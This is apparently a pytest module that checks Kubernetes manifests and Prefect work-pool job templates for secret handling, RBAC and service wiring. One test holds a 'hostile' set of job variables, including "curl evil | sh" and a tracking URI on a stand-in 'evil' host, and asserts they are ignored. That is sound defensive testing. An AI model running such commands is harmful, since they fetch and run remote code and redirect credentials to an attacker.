"""Static checks of the Kubernetes manifests (infra/k8s) and the work-pool job templates."""

from __future__ import annotations

import copy
import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
import yaml

from tests.infra import helpers as h

POOLS = ("genesis-cpu", "genesis-gpu")


def by_kind(kind: str, docs: list[dict] | None = None) -> dict[str, dict]:
    return {d["metadata"]["name"]: d for d in (docs or h.applied_docs()) if d["kind"] == kind}


def settings() -> dict[str, str]:
    return by_kind("ConfigMap")["genesis-settings"]["data"]


# --- documents ---------------------------------------------------------------------------


def test_every_document_has_api_version_kind_and_name() -> None:
    for doc in h.k8s_docs(include_example=True):
        assert doc.get("apiVersion") and doc.get("kind"), doc
        assert doc.get("metadata", {}).get("name"), doc


def test_kustomization_lists_existing_files_and_no_secrets() -> None:
    listed = h.kustomization()["resources"]
    for name in listed:
        assert (h.K8S / name).is_file(), name
    assert "secret.example.yaml" not in listed
    top = {p.name for p in h.k8s_files(include_optional=False)} - {"secret.example.yaml"}
    assert top == set(listed), f"manifests missing from the kustomization: {top - set(listed)}"
    assert "Secret" not in {d["kind"] for d in h.applied_docs()}
    assert h.kustomization()["namespace"] == "genesis"


@pytest.mark.skipif(shutil.which("kubectl") is None, reason="kubectl not installed")
def test_kustomize_builds() -> None:
    out = subprocess.run(
        ["kubectl", "kustomize", str(h.K8S)],
        capture_output=True,
        encoding="utf-8",
        timeout=60,
        check=True,
    ).stdout
    docs = [d for d in yaml.safe_load_all(out) if d]
    assert len(docs) == len(h.applied_docs())
    for doc in docs:
        assert doc["kind"] != "Secret"
        if doc["kind"] != "Namespace":
            assert doc["metadata"]["namespace"] == "genesis", doc["metadata"]["name"]


def test_workload_selectors_match_template_labels() -> None:
    services = by_kind("Service", h.k8s_docs())
    for doc in h.k8s_docs():
        if doc["kind"] in {"Deployment", "StatefulSet"}:
            selector = doc["spec"]["selector"]["matchLabels"]
            labels = doc["spec"]["template"]["metadata"]["labels"]
            assert selector and selector.items() <= labels.items(), doc["metadata"]["name"]
        if doc["kind"] == "StatefulSet":
            assert doc["spec"]["serviceName"] in services, doc["metadata"]["name"]


def test_services_select_pods_and_named_ports() -> None:
    docs = h.k8s_docs()
    pods = [
        (d["spec"]["template"]["metadata"]["labels"], d["spec"]["template"]["spec"])
        for d in docs
        if d["kind"] in {"Deployment", "StatefulSet"}
    ]
    for name, svc in by_kind("Service", docs).items():
        matches = [
            spec for labels, spec in pods if svc["spec"]["selector"].items() <= labels.items()
        ]
        assert matches, f"Service {name} selects no pods"
        port_names = {
            p.get("name")
            for spec in matches
            for c in spec["containers"]
            for p in c.get("ports", [])
        }
        for port in svc["spec"]["ports"]:
            target = port.get("targetPort", port["port"])
            assert isinstance(target, int) or target in port_names, f"{name}: {target}"


@pytest.mark.parametrize("label_spec", list(h.all_pod_specs()), ids=lambda x: x[0])
def test_containers_have_image_and_resources(label_spec) -> None:
    label, spec = label_spec
    for c in h.containers(spec):
        assert c.get("image"), f"{label}/{c['name']}: no image"
        assert not str(c["image"]).endswith(":latest"), label
        res = c.get("resources") or {}
        assert res.get("requests") and res.get("limits", {}).get("memory"), f"{label}/{c['name']}"


# --- secrets -----------------------------------------------------------------------------


def test_every_secret_reference_is_documented() -> None:
    """Every Secret and key a manifest or a work-pool template reads (secretKeyRef: a value;
    a secret volume's items: files) is in the README's table and kubectl commands, and
    secret.example.yaml shows exactly those."""
    trees = [h.k8s_docs(), h.pool_templates()]
    values = set().union(*(h.secret_refs(t) for t in trees))
    files = set().union(*(h.secret_volume_refs(t) for t in trees))
    assert values and files
    assert {n for n, _ in values}.isdisjoint({n for n, _ in files}), "one kind per Secret"
    readme = h.README.read_text(encoding="utf-8")
    for refs, option in ((values, "--from-literal"), (files, "--from-file")):
        for name, key in refs:
            row = next(
                (ln for ln in readme.splitlines() if ln.strip().startswith(f"| `{name}` |")), ""
            )
            assert f"`{key}`" in row, f"Secret {name} key {key} is not in the README's table"
            assert f"create secret generic {name}" in readme, f"no kubectl command creates {name}"
            assert f"{option}={key}=" in readme, f"{name}: key {key} missing from the command"
    example = h.k8s_docs_of(h.K8S / "secret.example.yaml")
    assert {(d["metadata"]["name"], k) for d in example for k in d["stringData"]} == values | files
    for volume in h.secret_volumes(trees):
        assert volume.get("items"), "name the keys a pod gets (items), not the whole Secret"


def test_no_secret_values_in_manifests() -> None:
    for path in h.k8s_files():
        if path.name == "secret.example.yaml":
            for doc in h.k8s_docs_of(path):
                assert set(doc["stringData"].values()) == {"CHANGE-ME"}
            continue
        for doc in h.k8s_docs_of(path):
            assert doc["kind"] != "Secret", path.name
            check_env_has_no_inline_secrets(doc, path.name)
    for pool, template in h.pool_templates().items():
        check_env_has_no_inline_secrets(template, pool)


# Variables whose value names a Secret (not a secret): the Prefect workers' reference to the
# auth string, which they write into the Jobs instead of its value.
NAMES_OF_SECRETS = {
    "PREFECT_INTEGRATIONS_KUBERNETES_WORKER_API_AUTH_STRING_SECRET_NAME",
    "PREFECT_INTEGRATIONS_KUBERNETES_WORKER_API_AUTH_STRING_SECRET_KEY",
}


def check_env_has_no_inline_secrets(tree, where: str) -> None:
    for path, node in h.walk(tree):
        if isinstance(node, dict) and isinstance(node.get("name"), str) and "value" in node:
            if node["name"] in NAMES_OF_SECRETS:
                continue
            assert not h.SECRETISH.search(node["name"]), (
                f"{where}: {node['name']} has an inline value"
            )
        if isinstance(node, str):
            assert not h.URL_CREDENTIALS.search(node), f"{where}: credentials in {path}"
        if isinstance(node, dict) and "secretKeyRef" in node:
            assert set(node["secretKeyRef"]) == {"name", "key"}, f"{where}: {path}"


# --- references between objects ---------------------------------------------------------


def test_config_maps_and_service_accounts_referenced_exist() -> None:
    config_maps, accounts = by_kind("ConfigMap"), by_kind("ServiceAccount")
    trees = [*h.k8s_docs(), *h.pool_templates().values()]
    for _, node in h.walk(trees):
        if isinstance(node, dict):
            for key in ("configMapRef", "configMapKeyRef", "configMap"):
                if isinstance(node.get(key), dict):
                    assert node[key]["name"] in config_maps, node[key]["name"]
            if isinstance(node.get("serviceAccountName"), str):
                assert node["serviceAccountName"] in accounts, node["serviceAccountName"]
    for template in h.pool_templates().values():
        assert h.job_pod_spec(template)["serviceAccountName"] in accounts


def test_settings_point_at_services_of_the_cluster() -> None:
    env = settings()
    services = set(by_kind("Service")) | {"dask-scheduler"}  # created by the Dask operator
    for key in (
        "GENESIS_S3_ENDPOINT_URL",
        "GENESIS_DASK_ADDRESS",
        "MLFLOW_TRACKING_URI",
        "PREFECT_API_URL",
    ):
        assert urlparse(env[key]).hostname in services, key
    cluster = by_kind("DaskCluster")
    assert f"{next(iter(cluster))}-scheduler" == urlparse(env["GENESIS_DASK_ADDRESS"]).hostname
    plain = by_kind("Service", list(h.k8s_docs_of(h.K8S / "optional" / "dask-deployments.yaml")))
    assert urlparse(env["GENESIS_DASK_ADDRESS"]).hostname in plain


def test_dask_cluster_is_an_operator_resource_with_dashboard() -> None:
    (cluster,) = by_kind("DaskCluster").values()
    assert cluster["apiVersion"] == "kubernetes.dask.org/v1"
    ports = {p["port"] for p in cluster["spec"]["scheduler"]["service"]["ports"]}
    assert ports == {8786, 8787}
    worker = cluster["spec"]["worker"]["spec"]["containers"][0]
    assert worker["args"][:2] == ["dask", "worker"]
    assert {"name": "genesis-settings"} in [e["configMapRef"] for e in worker["envFrom"]]
    assert ("genesis-s3", "secret-access-key") in h.secret_refs(worker)


def test_prefect_server_runs_on_postgres() -> None:
    (c,) = by_kind("Deployment")["prefect-server"]["spec"]["template"]["spec"]["containers"]
    assert c["command"][:3] == ["prefect", "server", "start"] and "0.0.0.0" in c["command"]
    env = {e["name"]: e for e in c["env"]}
    url = env["PREFECT_API_DATABASE_CONNECTION_URL"]["value"]
    assert re.fullmatch(
        r"postgresql\+asyncpg://prefect:\$\(POSTGRES_PREFECT_PASSWORD\)@postgres:5432/prefect", url
    )
    names = [e["name"] for e in c["env"]]
    assert names.index("POSTGRES_PREFECT_PASSWORD") < names.index(
        "PREFECT_API_DATABASE_CONNECTION_URL"
    )


def test_mlflow_proxies_artifacts_for_its_clients() -> None:
    dep = by_kind("Deployment")["mlflow"]
    spec = dep["spec"]["template"]["spec"]
    (c,) = spec["containers"]
    env = {e["name"]: e.get("value", "") for e in c["env"]}
    h.mlflow_server_checks(c["args"], env, settings()["MLFLOW_TRACKING_URI"])
    assert h.secret_env(c)["MLFLOW_AUTH_ADMIN_PASSWORD"] == ("genesis-mlflow", "admin-password")
    assert h.secret_env(c)["MLFLOW_FLASK_SERVER_SECRET_KEY"] == (
        "genesis-mlflow",
        "flask-secret-key",
    )
    # the backend URI is assembled from the Secret, defined before it ($(VAR) expansion)
    assert "$(POSTGRES_MLFLOW_PASSWORD)" in env["MLFLOW_BACKEND_STORE_URI"]
    names = [e["name"] for e in c["env"]]
    assert names.index("POSTGRES_MLFLOW_PASSWORD") < names.index("MLFLOW_BACKEND_STORE_URI")
    assert h.secret_env(c)["POSTGRES_MLFLOW_PASSWORD"] == ("genesis-postgres", "mlflow-password")
    refs = {n for n, _ in h.secret_refs(c)}
    assert refs == {"genesis-postgres", "genesis-mlflow-s3", "genesis-mlflow"}
    # the auth configuration (ConfigMap) and the account store (a claim: accounts persist)
    mounts = {m["mountPath"]: m["name"] for m in c["volumeMounts"]}
    volumes = {v["name"]: v for v in spec["volumes"]}
    config = volumes[mounts[env["MLFLOW_AUTH_CONFIG_PATH"].rsplit("/", 1)[0]]]["configMap"]
    assert "basic_auth.ini" in by_kind("ConfigMap")[config["name"]]["data"]
    store = volumes[mounts["/var/lib/mlflow-auth"]]["persistentVolumeClaim"]["claimName"]
    assert store in by_kind("PersistentVolumeClaim")
    ini = by_kind("ConfigMap")[config["name"]]["data"]["basic_auth.ini"]
    assert "sqlite:////var/lib/mlflow-auth/" in ini
    assert dep["spec"]["strategy"]["type"] == "Recreate", "one pod at a time on the claim"


def test_mlflow_setup_job_makes_the_accounts_as_admin() -> None:
    job = by_kind("Job")["mlflow-setup"]
    spec = job["spec"]["template"]["spec"]
    (c,) = spec["containers"]
    assert c["command"] == ["python", "/setup/setup.py"]
    assert c["image"].split(":")[0] == "genesis-cpu"
    env = {e["name"]: e.get("value") for e in c["env"]}
    assert env["MLFLOW_TRACKING_URI"] == settings()["MLFLOW_TRACKING_URI"]
    assert env["MLFLOW_TRACKING_USERNAME"] == "admin"
    secrets = h.secret_env(c)
    (server,) = by_kind("Deployment")["mlflow"]["spec"]["template"]["spec"]["containers"]
    assert secrets["MLFLOW_TRACKING_PASSWORD"] == h.secret_env(server)["MLFLOW_AUTH_ADMIN_PASSWORD"]
    assert secrets["MLFLOW_VIEWER_PASSWORD"] == ("genesis-mlflow", "viewer-password")
    # the password it gives `pipeline` is the one the flow runs log in with
    for pool in POOLS:
        (run,) = rendered_job(pool)["spec"]["template"]["spec"]["containers"]
        assert h.secret_env(run)["MLFLOW_TRACKING_PASSWORD"] == secrets["MLFLOW_PIPELINE_PASSWORD"]
    (mount,) = c["volumeMounts"]
    (volume,) = spec["volumes"]
    assert mount["mountPath"] == "/setup" and volume["configMap"]["name"] == "mlflow-setup"


# --- Prefect workers and work pools ------------------------------------------------------


def test_workers_use_kubernetes_pools_with_rbac_to_create_jobs() -> None:
    workers = {
        name: d for name, d in by_kind("Deployment").items() if name.startswith("prefect-worker")
    }
    pools = set()
    for name, dep in workers.items():
        spec = dep["spec"]["template"]["spec"]
        args = spec["containers"][0]["args"]
        assert args[:3] == ["prefect", "worker", "start"]
        assert args[args.index("--type") + 1] == "kubernetes", name
        assert spec["containers"][0]["image"].endswith("-kubernetes"), name
        pools.add(args[args.index("--pool") + 1])
        account = spec["serviceAccountName"]
        binding = next(
            b
            for b in by_kind("RoleBinding").values()
            if {"kind": "ServiceAccount", "name": account} in b["subjects"]
        )
        rules = by_kind("Role")[binding["roleRef"]["name"]]["rules"]
        grants = {
            (g, r, v)
            for rule in rules
            for g in rule["apiGroups"]
            for r in rule["resources"]
            for v in rule["verbs"]
        }
        for need in [
            ("batch", "jobs", "create"),
            ("batch", "jobs", "watch"),
            ("batch", "jobs", "delete"),
            ("", "pods", "list"),
            ("", "pods", "watch"),
            ("", "pods/log", "get"),
        ]:
            assert need in grants, f"{name}: missing {need}"
    deployments = yaml.safe_load(h.PREFECT_YAML.read_text(encoding="utf-8"))["deployments"]
    assert pools == {d["work_pool"]["name"] for d in deployments} == set(POOLS)
    assert set(h.pool_templates()) == set(POOLS)


def prefect_default_template() -> dict:
    import prefect

    views = Path(prefect.__file__).parent / "server/api/collections_data/views"
    meta = json.loads((views / "aggregate-worker-metadata.json").read_text(encoding="utf-8"))
    return meta["prefect-kubernetes"]["kubernetes"]["default_base_job_configuration"]


@pytest.mark.parametrize("pool", POOLS)
def test_work_pool_template_passes_prefect_validation(pool) -> None:
    from prefect.server.schemas.actions import WorkPoolCreate

    template = h.pool_template(pool)
    WorkPoolCreate(name=pool, type="kubernetes", base_job_template=template)
    broken = copy.deepcopy(template)
    del broken["variables"]["properties"]["namespace"]
    with pytest.raises(ValueError, match="namespace"):
        WorkPoolCreate(name=pool, type="kubernetes", base_job_template=broken)
    default = prefect_default_template()
    assert set(template["job_configuration"]) == set(default["job_configuration"])
    ours, prefects = (
        set(template["variables"]["properties"]),
        set(default["variables"]["properties"]),
    )
    assert ours == (prefects - FIXED_BY_THE_TEMPLATE) | (
        {"gpus"} if pool == "genesis-gpu" else set()
    ), "every other variable the Kubernetes worker fills stays"


# What a caller who starts a flow run (job variables) must not choose: what the Job runs
# (image, command), as whom (service account), with which settings (env: e.g. a tracking
# URI that would receive the pipeline's password), network access (labels: the
# NetworkPolicies select pods by label) or on which cluster (cluster_config).
FIXED_BY_THE_TEMPLATE = {
    "image",
    "command",
    "service_account_name",
    "env",
    "labels",
    "cluster_config",
}


def worker_configuration(template: dict, job_variables: dict):
    """The job configuration a worker builds from a pool's template and job variables, by
    Prefect's own code (its Kubernetes worker, prefect-kubernetes, lives in the worker image:
    this stands in for its configuration class, whose `env` is a dict or a list)."""
    import asyncio
    import types

    from prefect.workers.base import BaseJobConfiguration
    from pydantic import Field, field_validator

    class Config(BaseJobConfiguration):
        env: dict[str, str | None] | list[dict[str, Any]] = Field(default_factory=dict)
        namespace: str | None = None
        job_manifest: dict[str, Any] = Field(default_factory=dict)
        cluster_config: Any = None
        job_watch_timeout_seconds: int | None = None
        pod_watch_timeout_seconds: int | None = None
        stream_output: bool | None = None

        @field_validator("env", mode="before")
        @classmethod
        def _coerce_env(cls, v):
            return (
                v
                if isinstance(v, list)
                else {k: None if x is None else str(x) for k, x in v.items()}
            )

    # no block or variable placeholders: the client is never called
    build = Config.from_template_and_values(template, job_variables, client=types.SimpleNamespace())
    return asyncio.run(build)


@pytest.mark.parametrize("pool", POOLS)
def test_work_pool_callers_cannot_choose_image_command_or_account(pool) -> None:
    template = h.pool_template(pool)
    assert not FIXED_BY_THE_TEMPLATE & set(template["variables"]["properties"])
    from prefect.utilities.templating import find_placeholders

    used = {p.name for p in find_placeholders(json.dumps(template["job_configuration"]))}
    assert not used & FIXED_BY_THE_TEMPLATE, used & FIXED_BY_THE_TEMPLATE
    # job variables naming them change nothing in the Job
    hostile = {
        "image": "attacker/image:1",
        "command": "sh -c 'curl evil | sh'",
        "service_account_name": "prefect-worker",
        "env": {"MLFLOW_TRACKING_URI": "http://evil:5000"},
        "labels": {"app.kubernetes.io/name": "prefect-server"},
        "cluster_config": {"config": {}, "context_name": "evil"},
    }
    assert rendered_job(pool, **hostile) == rendered_job(pool)
    config = rendered_configuration(pool, **hostile)
    assert config["command"] == "prefect flow-run execute"
    assert config["env"] == [] and config["labels"] == {} and config["cluster_config"] is None
    # A worker builds the configuration with Prefect's from_template_and_values, which merges
    # a caller's `env` into a dict `env` whatever the variables say; a list (the Kubernetes
    # worker's other form) is left alone.
    built = worker_configuration(template, hostile | {"env.EXTRA": "1"})
    assert built.env == [] and built.labels == {} and built.command == config["command"]
    assert built.job_manifest == rendered_job(pool)
    as_dict = copy.deepcopy(template)
    as_dict["job_configuration"]["env"] = {}
    assert worker_configuration(as_dict, hostile).env == hostile["env"], "the check has teeth"
    pod = rendered_job(pool)["spec"]["template"]["spec"]
    (c,) = pod["containers"]
    assert c["args"] == config["command"].split()
    assert pod["serviceAccountName"] == "genesis-flow-run"
    assert by_kind("ServiceAccount")["genesis-flow-run"]["automountServiceAccountToken"] is False


def rendered_configuration(pool: str, **values) -> dict:
    """The job configuration a worker builds with the template's defaults (Prefect's own
    templating), ``values`` standing for job variables."""
    from prefect.utilities.templating import apply_values

    template = h.pool_template(pool)
    props = template["variables"]["properties"]
    defaults = {k: v["default"] for k, v in props.items() if "default" in v}
    return apply_values(copy.deepcopy(template["job_configuration"]), defaults | values)


def rendered_job(pool: str, **values) -> dict:
    """The Job a worker would submit with the template's defaults (Prefect's own templating)."""
    return rendered_configuration(pool, **values)["job_manifest"]


@pytest.mark.parametrize("pool", POOLS)
def test_work_pool_jobs_get_image_settings_and_credentials(pool) -> None:
    job = rendered_job(pool)
    assert job["apiVersion"] == "batch/v1" and job["kind"] == "Job"
    assert job["metadata"]["namespace"] == "genesis"
    pod = job["spec"]["template"]["spec"]
    (c,) = pod["containers"]
    assert c["name"] == "prefect-job"  # the worker streams logs from this container name
    flavour = "cuda" if pool == "genesis-gpu" else "cpu"
    assert c["image"].split(":")[0].endswith(f"genesis-{flavour}"), c["image"]
    assert {"configMapRef": {"name": "genesis-settings"}} in c["envFrom"]
    assert h.secret_env(c) == {
        "AWS_ACCESS_KEY_ID": ("genesis-s3", "access-key-id"),
        "AWS_SECRET_ACCESS_KEY": ("genesis-s3", "secret-access-key"),
        "PREFECT_API_AUTH_STRING": ("genesis-prefect", "auth-string"),
        "MLFLOW_TRACKING_PASSWORD": ("genesis-mlflow", "pipeline-password"),
        "GENESIS_SITE_SECRET": ("genesis-site", "site-secret"),
    }
    assert isinstance(c["env"], list), "a fixed env list; Prefect prepends its own variables"
    assert pod["restartPolicy"] == "Never"
    assert "/opt/genesis/genesis_data" in {m["mountPath"] for m in c["volumeMounts"]}
    assert c["resources"]["requests"]["memory"] and c["resources"]["limits"]["memory"]


def test_gpu_pool_requests_one_nvidia_gpu_and_cpu_pool_none() -> None:
    gpu = rendered_job("genesis-gpu")["spec"]["template"]["spec"]
    assert str(gpu["containers"][0]["resources"]["limits"]["nvidia.com/gpu"]) == "1"
    four = rendered_job("genesis-gpu", gpus=4)["spec"]["template"]["spec"]["containers"][0]
    assert str(four["resources"]["limits"]["nvidia.com/gpu"]) == "4", "job variable 'gpus'"
    assert any(t["key"] == "nvidia.com/gpu" for t in gpu["tolerations"])
    cpu = rendered_job("genesis-cpu")["spec"]["template"]["spec"]
    assert "nvidia.com/gpu" not in json.dumps(cpu)


@pytest.mark.parametrize("pool", POOLS)
def test_run_state_survives_a_pod_restart(pool) -> None:
    """runs/ (checkpoints, result.json) is on the genesis-runs claim, not the scratch emptyDir."""
    pod = rendered_job(pool)["spec"]["template"]["spec"]
    (c,) = pod["containers"]
    mounts = {m["mountPath"]: m["name"] for m in c["volumeMounts"]}
    volumes = {v["name"]: v for v in pod["volumes"]}
    runs = volumes[mounts["/opt/genesis/genesis_data/runs"]]
    assert runs["persistentVolumeClaim"]["claimName"] == "genesis-runs"
    claims = by_kind("PersistentVolumeClaim")
    assert "ReadWriteMany" in claims["genesis-runs"]["spec"]["accessModes"]


def test_k8s_dask_workers_get_the_local_clusters_settings() -> None:
    from tasks.dask_cluster import worker_env

    docs = [d for d in h.applied_docs() if d["kind"] == "DaskCluster"]
    (cluster,) = docs
    (worker,) = cluster["spec"]["worker"]["spec"]["containers"]
    env = {e["name"]: e.get("value") for e in worker["env"]}
    assert {k: env.get(k) for k in worker_env()} == worker_env()
